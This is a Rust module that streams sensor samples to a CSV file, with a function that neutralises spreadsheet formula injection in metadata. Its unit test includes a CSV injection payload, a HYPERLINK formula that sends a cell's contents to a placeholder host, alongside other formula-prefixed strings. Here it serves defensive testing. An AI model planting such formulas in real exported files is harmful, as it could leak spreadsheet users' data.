//! Writes our CSV: one row per instant, streaming. See `docs/formats.md`.

use std::fmt::{self, Write as _};
use std::io::{BufWriter, Write};
use std::path::Path;

use crate::atomic_file::AtomicFile;
use crate::csv::{COLUMNS, SCORED, TIME_S};
use crate::error::{RecordingError, Result};
use crate::event::{Event, Sample, SensorKind};
use crate::metadata::Metadata;
use crate::numbers::{columns, widths};
use crate::shortest::push_shortest;
use crate::stamp;
use crate::writer::{EventWriter, Row, in_order, numbers};

/// A CSV being written. Numbers are written so that they read back exactly.
pub struct CsvWriter {
    output: Output,
    /// The sensors, and how many columns each has.
    sensors: Vec<(SensorKind, usize)>,
    row: Row,
    /// The row as text.
    line: Vec<u8>,
}

/// Where the lines go.
enum Output {
    File(AtomicFile),
    Stream {
        name: String,
        output: BufWriter<Box<dyn Write>>,
    },
}

impl CsvWriter {
    /// Starts the file with metadata and header. `sensors` are the kinds that may come; each gets
    /// its columns.
    ///
    /// # Errors
    /// As [`AtomicFile::create`].
    pub fn create(
        path: &Path,
        metadata: &Metadata,
        sensors: &[SensorKind],
        force: bool,
    ) -> Result<Self> {
        let output = Output::File(AtomicFile::create(path, force)?);
        Self::start(output, metadata, sensors)
    }

    /// Writes to a stream such as standard output; `name` stands for it in messages. Unlike a
    /// file, a stream holds what has been written even if the writer is never finished.
    ///
    /// # Errors
    /// [`RecordingError::Io`].
    pub fn to_stream(
        output: impl Write + 'static,
        name: &str,
        metadata: &Metadata,
        sensors: &[SensorKind],
    ) -> Result<Self> {
        let output = Output::Stream {
            name: name.to_owned(),
            output: BufWriter::with_capacity(1 << 16, Box::new(output)),
        };
        Self::start(output, metadata, sensors)
    }

    fn start(output: Output, metadata: &Metadata, sensors: &[SensorKind]) -> Result<Self> {
        let mut header = vec![TIME_S];
        let mut widths = Vec::new();
        for kind in in_order(sensors) {
            let before = header.len();
            header.extend(columns(&COLUMNS, kind));
            header.extend((kind == SensorKind::Reference).then_some(SCORED));
            widths.push((kind, header.len() - before));
        }
        let mut writer = Self {
            output,
            sensors: widths,
            row: Row::new(),
            line: (metadata_lines(metadata) + &header.join(",")).into_bytes(),
        };
        writer.end_line()?;
        Ok(writer)
    }

    fn write_row(&mut self) -> Result<()> {
        if self.row.is_empty() {
            return Ok(());
        }
        self.line
            .extend_from_slice(stamp::format_s(self.row.time_ns).as_bytes());
        for (kind, columns) in &self.sensors {
            let Some(sample) = self.row.get(*kind) else {
                self.line.extend(std::iter::repeat_n(b',', *columns));
                continue;
            };
            let (values, count) = numbers(sample);
            let needed = widths(*kind).1;
            for (place, value) in values[..count].iter().enumerate() {
                self.line.push(b',');
                if place < needed || !value.is_nan() {
                    push_shortest(&mut self.line, *value);
                }
            }
            if let Sample::Reference(reference) = sample {
                let flag = if reference.scored { b",1" } else { b",0" };
                self.line.extend_from_slice(flag);
            }
        }
        self.row.clear();
        self.end_line()
    }

    fn end_line(&mut self) -> Result<()> {
        self.line.push(b'\n');
        let written = self.output.write(&self.line);
        self.line.clear();
        written
    }
}

impl fmt::Debug for CsvWriter {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("CsvWriter")
            .field("output", &self.output.name())
            .field("sensors", &self.sensors)
            .finish_non_exhaustive()
    }
}

impl Output {
    fn name(&self) -> String {
        match self {
            Self::File(file) => file.path().display().to_string(),
            Self::Stream { name, .. } => name.clone(),
        }
    }

    fn write(&mut self, bytes: &[u8]) -> Result<()> {
        match self {
            Self::File(file) => file.write_all(bytes),
            Self::Stream { output, .. } => output.write_all(bytes),
        }
        .map_err(|error| RecordingError::io(self.name(), "write it", error))
    }

    fn finish(self) -> Result<()> {
        match self {
            Self::File(file) => file.commit(),
            Self::Stream { name, mut output } => {
                let flushed = output.flush();
                flushed.map_err(|error| RecordingError::io(name, "write it", error))
            }
        }
    }
}

impl EventWriter for CsvWriter {
    fn write(&mut self, event: &Event) -> Result<()> {
        let kind = event.sample.kind();
        if !self.sensors.iter().any(|(known, _)| *known == kind) {
            return Err(RecordingError::no_column_for(
                self.output.name(),
                kind.name(),
            ));
        }
        if !self.row.takes(event) {
            self.write_row()?;
        }
        self.row.put(event);
        Ok(())
    }

    fn finish(mut self: Box<Self>) -> Result<()> {
        self.write_row()?;
        self.output.finish()
    }
}

/// A text as it may stand in a cell: on one line, and no part of it a formula to a spreadsheet, which is what begins with
/// `=`, `+`, `-`, `@` or a tab there. Numbers stay as they are.
fn neutral(text: &str) -> String {
    let text: String = text
        .chars()
        .map(|c| if c.is_control() { ' ' } else { c })
        .collect();
    let cells = text.split(',').map(|cell| {
        let start = cell.trim_start_matches([' ', '"', '\'']);
        let is_number = cell.trim().parse::<f64>().is_ok();
        match start.starts_with(['=', '+', '-', '@']) && !is_number {
            true => {
                let (before, formula) = cell.split_at(cell.len() - start.len());
                format!("{before}'{formula}")
            }
            false => cell.to_owned(),
        }
    });
    cells.collect::<Vec<_>>().join(",")
}

fn metadata_lines(metadata: &Metadata) -> String {
    let mut lines = String::new();
    let mut line = |key: &str, value: &str| {
        let value = neutral(value);
        // Writing to a string cannot fail.
        let _ = writeln!(lines, "# {key}: {value}");
    };
    line("name", &metadata.name);
    if let Some(device) = &metadata.device {
        line("device", device);
    }
    line("world_frame", metadata.world_frame.name());
    for (key, value) in metadata.body_and_receiver() {
        line(key, &value);
    }
    for (key, value) in &metadata.extra {
        // A colon or a line break in a key would read back as another key.
        line(&key.replace([':', '\n', '\r'], "_"), value);
    }
    lines
}

#[cfg(test)]
mod tests {
    use super::neutral;

    #[test]
    fn names_are_no_formulas_and_numbers_stay_numbers() {
        for (name, expected) in [
            (
                "x,=HYPERLINK(\"http://e.example/\"&A1,\"open\")",
                "x,'=HYPERLINK(\"http://e.example/\"&A1,\"open\")",
            ),
            ("=1+1", "'=1+1"),
            ("a,+1+1,@SUM(A1)", "a,'+1+1,'@SUM(A1)"),
            ("a,\"-2+3\"", "a,\"'-2+3\""),
            ("a,\t=1", "a, '=1"),
            ("one\r\ntwo\0\x1b", "one  two  "),
            ("0.5,-0.05,-1.25e-3,+2", "0.5,-0.05,-1.25e-3,+2"),
            ("Anna's phone, 2nd-hand", "Anna's phone, 2nd-hand"),
        ] {
            assert_eq!(neutral(name), expected);
        }
    }
}
